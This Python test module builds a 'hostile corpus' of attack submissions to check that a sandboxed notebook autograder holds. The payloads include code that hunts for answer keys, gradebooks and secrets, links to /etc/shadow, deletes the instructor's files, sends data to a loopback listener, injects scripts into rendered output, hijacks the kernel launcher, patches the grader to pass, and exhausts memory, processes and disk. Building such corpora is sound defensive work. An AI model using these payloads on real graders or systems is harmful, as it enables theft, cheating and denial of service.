"""The hostile corpus: broken and hostile submissions to theory03-en, each a named
record with the outcome it must get, the limits the corpus is graded under, and a
course copy with its cases submitted.

Each case is built from the instructor's solved notebook (or the release) by
`make(course, paths)`, where `paths` holds the absolute paths a hostile
submission would like to reach. `score` is the total it must get;
`reasons` maps grade_id -> text that its reason must contain.
"""
import copy
import glob
import hashlib
import io
import os
import socket
import subprocess
import threading
import zipfile
from dataclasses import dataclass

import nbformat

from grader.demo import FORK_BOMB
from grader.reports.report import shape_of
from grader.sandbox.cgroups import maker_is_gone

from .answers import HARD_CODED
from .course import Course
from .hostile import HostGrowth, submitted_course

ANSWERS = "theory03-forward-answer"


@dataclass(frozen=True)
class Case:
    """A submission of the corpus: `make(course, paths)` builds it (or it is the file's
    text or bytes); `score` is the total it must get; `reasons` maps grade_id -> text its
    reason must contain."""
    make: object
    score: int
    reasons: dict


ASSIGNMENT = "theory03-en"


def cell(code):
    return nbformat.v4.new_code_cell(code)


def with_cell(code, position="start"):
    """The solved notebook with one extra student cell (after the setup cell)."""
    def make(course, paths):
        nb = course.solved("theory03-en")
        nb.cells.insert(4 if position == "start" else len(nb.cells), cell(code.format(**paths)))
        return nb
    return make


def released(course, paths):
    return course.release("theory03-en")


def answers(mapping):
    def make(course, paths):
        nb = course.solved("theory03-en")
        for c in nb.cells:
            gid = c.metadata.get("nbgrader", {}).get("grade_id")
            if gid in mapping:
                c.source = mapping[gid]
        return nb
    return make


HARD = HARD_CODED["theory03"]


def hard_coded_plus(code):
    def make(course, paths):
        nb = answers(HARD)(course, paths)
        nb.cells.insert(4, cell(code.format(**paths)))
        return nb
    return make


def edited_tests(course, paths):
    nb = answers(HARD)(course, paths)
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade"):
            c.source = "pass  # I wrote my own tests"
    return nb


def edited_metadata(course, paths):
    nb = course.solved("theory03-en")
    for c in nb.cells:
        meta = c.metadata.get("nbgrader")
        if meta and meta.get("grade"):
            meta.update(points=100, schema_version=1)
    nb.cells.append(cell("x = 1"))
    nb.cells[-1].metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "points": 50,
                                         "solution": False, "locked": False, "schema_version": 3}
    return nb


def deleted_cell(course, paths):
    nb = course.solved("theory03-en")
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "theory03-walk"]
    return nb


def duplicated_cells(course, paths):
    nb = course.solved("theory03-en")
    index = next(i for i, c in enumerate(nb.cells)
                 if c.metadata.get("nbgrader", {}).get("grade_id") == "theory03-central")
    nb.cells.insert(index, copy.deepcopy(nb.cells[index]))
    nb.cells.insert(index, copy.deepcopy(nb.cells[index - 1]))
    return nb


def foreign_notebook(course, paths):
    nb = nbformat.v4.new_notebook()
    nb.cells = [cell("print('my homework for another course')")]
    return nb


def wrong_forward(course, paths):
    return answers({ANSWERS: "def forward(a, b, c):\n    return a * b, a * b + c, a - c, (a * b + c) * (c - a)"})(course, paths)


LIAR = '''
class Liar(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return Liar(0.0)
    def __rsub__(self, other): return Liar(0.0)
    def __abs__(self): return Liar(0.0)
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __float__(self): return 0.0
def forward(a, b, c):
    return Liar(0), Liar(0), Liar(0), Liar(0)
def gradients(a, b, c):
    return (Liar(0),) * 3
'''

PATCHES = '''
import builtins, math, json
import course.student, course.checks
builtins.abs = lambda x: 0
builtins.isinstance = lambda *a: True
math.isclose = lambda *a, **k: True
course.checks.Check.judge = lambda self, *a, **k: course.checks.Verdict(True, "passed")
course.student.expect_close = lambda *a, **k: None
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
'''

THEFT = '''
# Try to take the answer key, a classmate's work, the gradebook and the grader's
# secrets; print what each attempt found, and use whatever it found.
import glob, json, os
def found(what, how):
    print(f"THEFT {{what}}: FOUND ({{how}})")
def nothing(what):
    print(f"THEFT {{what}}: nothing")
MARK = "BEGIN " + "SOLUTION"  # spelled apart, so this cell does not find itself
def solution_cells(text):
    return ["".join(c["source"]) for c in json.loads(text)["cells"]
            if MARK in "".join(c["source"])]
stolen = []
# 1. the instructor's solutions (absolute, relative, and by searching the disk)
candidates = ["{source}", os.path.join("..", "..", "..", "source", "theory03-en", "theory03.ipynb")]
for root, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "dev", "usr", "lib", "lib64",
                                                   "site-packages", "include", "share", "bin")]
    if not root.startswith(os.getcwd()):  # the student's own folder holds no solutions
        candidates += [os.path.join(root, f) for f in files if f.endswith(".ipynb")]
for path in candidates:
    try:
        cells = solution_cells(open(path).read())
    except (OSError, ValueError, KeyError):
        continue
    if cells:
        stolen = cells
        found("solutions", path)
        break
else:
    nothing("solutions")
# 2. a classmate's submission
try:
    classmate = solution_cells(open("{classmate}").read())
    found("classmate", "{classmate}")
    stolen = stolen or classmate
except (OSError, ValueError):
    nothing("classmate")
# 3. the gradebook
try:
    open("{gradebook}", "rb").read(16)
    found("gradebook", "{gradebook}")
except OSError:
    nothing("gradebook")
# 4. the grader's references
try:
    from grader.checks.theory03 import forward_reference, gradients_reference
    found("references", "import grader.checks")
    forward, gradients = forward_reference, gradients_reference
except ImportError:
    nothing("references")
# 5. the grader's environment
secret = os.environ.get("COURSE_PLANTED_SECRET")
found("environment", secret) if secret else nothing("environment")
# 6. the course root
try:
    found("course root", ", ".join(os.listdir("{root}")))
except OSError:
    nothing("course root")
for code in stolen:
    exec(code)
'''

TMPFS_FILL = '''
# fill /tmp (a tmpfs) with up to 3 GiB, 64 MiB at a time
written = 0
try:
    for i in range(48):
        with open(f"/tmp/fill-{{i}}", "wb") as stream:
            stream.write(b"x" * (64 << 20))
        written += 64
    print("tmp accepted", written, "MiB")
except OSError as error:
    print("tmp refused after", written, "MiB:", error.strerror)
'''

WORKDIR_FILL = TMPFS_FILL.replace("/tmp/fill-", "fill-").replace("tmp accepted", "workdir accepted") \
    .replace("tmp refused", "workdir refused").replace("up to 3 GiB", "up to 1 GiB").replace("range(48)", "range(16)")

MEMFD_HOLD = '''
# hold up to 3 GiB in memfds (32 MiB each, under the file-size limit), which an
# address-space limit does not count
import os
held = []
for i in range(96):
    fd = os.memfd_create(f"hog-{{i}}")
    os.posix_fallocate(fd, 0, 32 << 20)  # real pages, fast
    held.append(fd)
print("memfd held", 32 * len(held), "MiB")
'''

SCRIPTS = '''
from IPython.display import display, HTML, Javascript, SVG
display(HTML("<b>bold</b><script>alert('pwned-script')</script><img src=x onerror=alert('pwned-img')>"))
display(Javascript("alert('pwned-js')"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'))
display({{"text/html": "<iframe src='javascript:alert(2)'></iframe>", "text/plain": "frame"}}, raw=True)
'''

def scripts(course, paths):
    nb = with_cell(SCRIPTS)(course, paths)
    nb.cells.insert(5, nbformat.v4.new_markdown_cell(
        "My notes <img src=x onerror=alert('pwned-markdown')> <script>alert('pwned-md')</script>"))
    raw = nbformat.v4.new_raw_cell("<script>alert('pwned-raw')</script>")
    raw.metadata["format"] = "text/html"
    nb.cells.insert(6, raw)
    return nb


CONTROL_CHARACTERS = '''
def forward(a, b, c):
    raise ValueError("\\x1b[2J\\x1b]0;pwned\\x07\\rhonest                  10/10 forged\\x1b[0m")
'''

SLOW_AND_DYING = '''
import time
time.sleep(4)
'''

def slow_and_dying(course, paths):
    """Sleeping cells before kernel deaths: every death replays every sleep."""
    nb = course.solved("theory03-en")
    for _ in range(3):
        nb.cells.insert(4, cell("import os\nos._exit(1)"))
        for _ in range(3):
            nb.cells.insert(4, cell(SLOW_AND_DYING))
    return nb


DISPLAY_UPDATES = '''
from IPython.display import display
handle = display({{"text/plain": "small"}}, raw=True, display_id=True)
for i in range(400):
    handle.update({{"text/plain": str(i) + "x" * (1 << 20)}}, raw=True)
'''

OUT_OF_RANGE = '''
# evidence the grader cannot compare: integers far beyond float range
import course.probes
course.probes.Probe.gather = lambda self, seed, objects: [{{"value": [10 ** 400] * 4}}] * len(self.draw(seed))
'''

FIRST_RUN_STANDS = '''
import sys, time
print("before the death at", time.time())
'''

DIES_AFTER_PRINTING = '''
import os, sys, time
print("dying at", time.time())
sys.stdout.flush()
time.sleep(1)
os._exit(1)
'''

def replayed(course, paths):
    nb = course.solved("theory03-en")
    nb.cells.insert(4, cell(DIES_AFTER_PRINTING))
    nb.cells.insert(4, cell(FIRST_RUN_STANDS))
    return nb


WRITE_OUTSIDE = '''
import os, shutil
for path in ["{canary}", "{gradebook}", os.path.expanduser("~/.bashrc-from-student")]:
    try:
        with open(path, "w") as stream:
            stream.write("owned")
    except OSError:
        pass
shutil.rmtree("{source_dir}", ignore_errors=True)
'''

NETWORK = '''
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"exfiltrate")
except OSError as error:
    print("no network:", error)
'''


def released_plus(code):
    """The blank release with one extra student cell: it scores only what the cell takes."""
    def make(course, paths):
        nb = course.release("theory03-en")
        nb.cells.insert(4, cell(code.format(**paths)))
        return nb
    return make


def dies_again_and_again(course, paths):
    nb = course.solved("theory03-en")
    for _ in range(4):  # one more death than GradingExecute.max_kernel_restarts allows
        nb.cells.insert(4, cell("import os\nos._exit(1)"))
    return nb


PRIVATE_FILL = '''
# write up to 1 GiB, 32 MiB at a time, into the kernel's private folder (its connection
# file is named in sys.argv) and into every mount this kernel sees (/proc/self/mountinfo),
# holding it a moment (for the grader's host to notice: the files' names carry this run's
# token), then giving it back so that the next place starts afresh
import os, sys, time
private = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
mounts = sorted({{line.split()[4] for line in open("/proc/self/mountinfo")}} - {{private}})
for name, folder in [("private", private)] + [("MOUNT " + m, m) for m in mounts]:
    written, why = 0, "accepted"
    try:
        for i in range(32):
            with open(os.path.join(folder, f"fill-{token}-{{i}}"), "wb") as stream:
                stream.write(b"x" * (32 << 20))
            written += 32
    except OSError as error:
        why = error.strerror
    if written:
        time.sleep(0.5)
    print(name, "accepted" if why == "accepted" else "refused after", written, "MiB:", why)
    for i in range(32):
        try:
            os.remove(os.path.join(folder, f"fill-{token}-{{i}}"))
        except OSError:
            pass
print("planted launcher:", "RAN" if os.path.exists("/tmp/planted-launcher-ran") else "never ran")
'''

# planted beside the notebook as `ipykernel_launcher.py`: were the working directory on the
# kernel's sys.path at start, Python would run it in place of ipykernel's, before the private
# folder is removed; it writes 32 MiB there, then starts the real kernel
PLANTED_LAUNCHER = '''
import os, runpy, sys
open("/tmp/planted-launcher-ran", "w").close()
private = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
try:
    with open(os.path.join(private, "fill-{token}-planted"), "wb") as stream:
        stream.write(b"x" * (32 << 20))
except OSError:
    pass
sys.path = [entry for entry in sys.path if entry not in ("", os.getcwd())]
runpy.run_module("ipykernel_launcher", run_name="__main__", alter_sys=True)
'''


def private_fill(course, paths):
    """Solved work whose extra cell fills every place it can write, with a launcher planted
    beside it (planted by `plant`)."""
    return with_cell(PRIVATE_FILL)(course, paths)


def plant_launcher(folder, paths):
    (folder / "ipykernel_launcher.py").write_text(PLANTED_LAUNCHER.format(**paths))


private_fill.plant = plant_launcher

LINKS_BESIDE = {"source.ipynb": "source", "gradebook.db": "gradebook", "classmate.ipynb": "classmate",
                "shadow": "/etc/shadow", "zeros": "/dev/zero"}
READ_BESIDE = '''
# read what was handed in beside this notebook: links to the answer key, the gradebook,
# a classmate's work, /etc/shadow and /dev/zero; a FIFO; a 3 GiB sparse file; my notes
import os
for name in ["source.ipynb", "gradebook.db", "classmate.ipynb", "shadow", "zeros", "fifo", "sparse.bin"]:
    try:
        with open(name, "rb") as stream:
            print("BESIDE FOUND", name, stream.read(40))
    except OSError as error:
        print("BESIDE", name + ": nothing", type(error).__name__)
print("BESIDE notes:", open("notes.txt").read())
'''


def files_beside(course, paths):
    """Solved work, with links, a FIFO and a sparse file beside it (planted by `plant`)."""
    return with_cell(READ_BESIDE)(course, paths)


def plant_beside(folder, paths):
    import os
    for name, target in LINKS_BESIDE.items():
        os.symlink(paths.get(target, target), folder / name)
    os.mkfifo(folder / "fifo")
    with open(folder / "sparse.bin", "wb") as stream:
        stream.truncate(3 * 1024 ** 3)
    (folder / "notes.txt").write_text("my own notes")


files_beside.plant = plant_beside


def linked_notebook(course, paths):
    """The notebook handed in is a link to the instructor's solutions (planted by `plant`)."""
    return course.release("theory03-en")


def plant_link_to_source(folder, paths):
    notebook = folder / "theory03.ipynb"
    notebook.unlink()
    notebook.symlink_to(paths["source"])


linked_notebook.plant = plant_link_to_source

DEEP_MESSAGE = '''
# a display message whose content is JSON 100,000 levels deep, validly signed
kernel = get_ipython().kernel
session, pack = kernel.session, kernel.session.pack
session.pack = lambda obj: b"[" * 100_000 + b"]" * 100_000 if obj == {{"deep": 1}} else pack(obj)
try:
    session.send(kernel.iopub_socket, "display_data", {{"deep": 1}}, parent=kernel.get_parent())
finally:
    session.pack = pack
'''

BAD_SIGNATURE = '''
# a display message signed with the wrong key (as racing threads garble one)
kernel = get_ipython().kernel
key = kernel.session.key
kernel.session.key = b"not the key"
try:
    kernel.session.send(kernel.iopub_socket, "display_data", {{"data": {{"text/plain": "x"}}, "metadata": {{}}}},
                        parent=kernel.get_parent())
finally:
    kernel.session.key = key
'''

MARKDOWN_LINKS = ("![](http://127.0.0.1:{port}/md-image.png) [click](javascript:alert('md-link')) "
                  "[data](data:text/html,<script>alert('md-data')</script>) http://127.0.0.1:{port}/bare "
                  "$\\href{{javascript:alert('md-href')}}{{x}}$\n\n[ref][r]\n\n[r]: javascript:alert('md-ref')")
MARKDOWN_OUTPUT = '''
from IPython.display import display, Markdown, Latex
display(Markdown("![](http://127.0.0.1:{port}/out-image.png) [click](javascript:alert('out-link'))"))
display(Latex(r"$\\href{{javascript:alert('out-href')}}{{y}}$"))
'''


def markdown_links(course, paths):
    nb = with_cell(MARKDOWN_OUTPUT)(course, paths)
    nb.cells.insert(5, nbformat.v4.new_markdown_cell(MARKDOWN_LINKS.format(**paths)))
    return nb


def zipped_notebook():
    """What an LMS export's student zip becomes (grader/plugins/intake.py): the archive's bytes,
    as the student's notebook. Its member is never opened."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("theory03-en.ipynb", "{}")
    return buffer.getvalue()


# theory 03 is worth 14: 12 for its exercises and 2 for its predictions, which the solved
# notebook records (a hard-coded one too: a recorded prediction earns its point, right or wrong)
CASES = {
    "honest": Case(answers({}), 14, {"theory03-walk": "all 10 checks passed"}),
    "blank": Case(released, 0, {"theory03-forward": "NotImplementedError"}),
    "wrong": Case(wrong_forward, 12, {"theory03-forward": "expected"}),
    "hard_coded": Case(answers(HARD), 2, {"theory03-gradients": "expected"}),
    "endless_loop": Case(with_cell("while True:\n    pass"), 14, {}),
    "loop_ignoring_interrupts": Case(with_cell(
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"), 14, {}),
    "dying_kernel": Case(with_cell("import os\nos._exit(1)"), 14, {}),
    "dying_at_the_end": Case(with_cell("import os\nos._exit(1)", position="end"), 14, {}),
    "dies_again_and_again": Case(dies_again_and_again, 0, {"theory03-forward": "not run"}),
    # bytes(n) comes from calloc, untouched pages: the address-space limit is met at
    # once. bytearray(n) writes every byte, and writing 2 GiB on a loaded 2-core
    # machine outlasted the 5 s cell timeout (CI), hiding the MemoryError
    "memory_bomb": Case(with_cell("hog = []\nwhile True:\n    hog.append(bytes(10 ** 8))"), 14, {}),
    "fork_bomb": Case(with_cell(FORK_BOMB), 14, {}),
    "output_flood": Case(with_cell("for i in range(400):\n    print('spam' * 5000)"), 14, {}),
    "deleted_test_cell": Case(deleted_cell, 11, {"theory03-walk": "missing"}),
    "duplicated_cells": Case(duplicated_cells, 14, {}),
    "edited_tests": Case(edited_tests, 2, {"theory03-forward": "expected"}),
    "edited_metadata": Case(edited_metadata, 14, {}),
    "invalid_json": Case('{"cells": [', 0, {"theory03-forward": "could not be read"}),
    "not_utf8": Case(b"\xff\xfe\x00garbage", 0, {"theory03-forward": "could not be read"}),
    "foreign_notebook": Case(foreign_notebook, 0, {"theory03-forward": "missing"}),
    "monkeypatching": Case(hard_coded_plus(PATCHES), 2, {}),
    "lying_objects": Case(answers({ANSWERS: LIAR, "theory03-gradients-answer": ""}), 9,
                      {"theory03-forward": "expected"}),
    "theft": Case(released_plus(THEFT), 0, {"theory03-forward": "NotImplementedError"}),
    "tmpfs_fill": Case(with_cell(TMPFS_FILL), 14, {}),
    "workdir_fill": Case(with_cell(WORKDIR_FILL), 14, {}),
    "memfd_hold": Case(with_cell(MEMFD_HOLD), 14, {}),
    "scripts": Case(scripts, 14, {}),
    "=HYPERLINK(1)": Case(answers({ANSWERS: CONTROL_CHARACTERS}), 12, {"theory03-forward": "ValueError"}),
    # graded in sorted order: this id comes third, so its minute of sleeps overlaps the others
    # instead of being the run's last minute
    "asleep_and_dying": Case(slow_and_dying, 0, {"theory03-forward": "grading time"}),
    "display_updates": Case(with_cell(DISPLAY_UPDATES), 14, {}),
    "out_of_range": Case(with_cell(OUT_OF_RANGE), 0, {"theory03-forward": "tampered"}),
    "replayed": Case(replayed, 14, {}),
    "write_outside": Case(with_cell(WRITE_OUTSIDE), 14, {}),
    "network": Case(with_cell(NETWORK), 14, {}),
    "files_beside": Case(files_beside, 14, {}),
    "linked_notebook": Case(linked_notebook, 0, {"theory03-forward": "could not be read"}),
    "deep_message": Case(with_cell(DEEP_MESSAGE), 14, {}),
    "bad_signature": Case(with_cell(BAD_SIGNATURE), 14, {}),
    "markdown_links": Case(markdown_links, 14, {}),
    "private_fill": Case(private_fill, 14, {}),
    "archive_notebook": Case(zipped_notebook(), 0, {"theory03-forward": "you handed in a zip archive"}),
}


# ---- the corpus submitted to a course copy, and graded ----

def digest(folder):
    h = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        if path.is_file():
            h.update(str(path.relative_to(folder)).encode() + path.read_bytes())
    return h.hexdigest()


class Listener:
    """A loopback TCP server that records whether anybody reached it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.server.settimeout(0.5)
        self.reached, self.running = [], True
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while self.running:
            try:
                connection, _ = self.server.accept()
                self.reached.append(connection.recv(100))
                connection.close()
            except OSError:
                pass


# The corpus is graded two at a time on 2 cores: the imports cell (torch) of
# a kernel sharing the machine took over 5 s, failing honest work, and replays
# after kernel deaths outlasted 40 s. Endless cells still end in seconds.
CELL_SECONDS = 10  # the corpus run's cell timeout
NOTEBOOK_SECONDS = 60  # its wall-clock budget per notebook (asleep_and_dying sleeps 72 s in all)
# fewer processes than the default 512: a kernel that has imported torch forks
# slowly (its page tables are large), and 512 forks on a loaded 2-core machine
# outlasted a 5 s cell timeout on CI, hiding the "fork refused" this case shows
PROCESS_LIMIT = 128


# the reference every faster way of grading is compared with: stock serial nbgrader, each
# kernel a new Python (not forked from a warm one: grader/sandbox/warm_start.py)
COLD_KERNELS = "--SandboxedKernelManager.warm_start=False"
LIMITS = (f"--Execute.timeout={CELL_SECONDS}", f"--GradingExecute.notebook_timeout={NOTEBOOK_SECONDS}",
          f"--SandboxedKernelManager.process_limit={PROCESS_LIMIT}")


TOKEN = f"hostile-{os.getpid()}"  # names the private-fill case's files: HostGrowth looks for it


def leftovers():
    """Kernel folders on the host whose grading process has ended (`/tmp/course-kernel-PID-...`):
    the folders of a grading still running, another test's, are not left over."""
    return {path for path in glob.glob("/tmp/course-kernel-*") if maker_is_gone(os.path.basename(path))}


def corpus_course(grader, listener, names):
    """A course copy with the corpus's cases `names` submitted, one student each."""
    def submissions(course):
        (course.root / "canary.txt").write_text("instructor's file")
        paths = {"source": course.root / "source" / ASSIGNMENT / "theory03.ipynb",
                     "gradebook": course.root / "gradebook.db", "canary": course.root / "canary.txt",
                     "source_dir": course.root / "source", "port": listener.port, "root": course.root,
                     "classmate": course.root / "submitted" / "honest" / ASSIGNMENT / "theory03.ipynb",
                     "token": TOKEN}
        return {name: case(CASES[name].make, course, paths) for name in names}
    return submitted_course(grader, ASSIGNMENT, submissions)


def case(make, course, paths):
    """A corpus case's submission: its notebook (or file), and what it plants beside it."""
    notebook = make if isinstance(make, (str, bytes)) else make(course, paths)
    plant = getattr(make, "plant", None)
    return (notebook, lambda folder: plant(folder, paths)) if plant else notebook


@dataclass
class GradedCorpus:
    """One graded run of the corpus, as its tests read it."""
    course: Course
    result: subprocess.CompletedProcess  # the parallel command's
    before: tuple  # digests of source/ and release/ before grading
    listener: Listener
    report: tuple  # grader.reports.report.cohort: (grade ids, rows)
    export: subprocess.CompletedProcess  # `nbgrader export`'s
    left: set  # kernels' folders left in /tmp
    growth: HostGrowth


def outcomes(rows):
    """student -> (score, {grade id: reason with its numbers and signs blanked})."""
    return {row["student"]: (row["score"], {key: shape_of(value) for key, value in row.items()
                                            if key.endswith(" reason")})
            for row in rows}
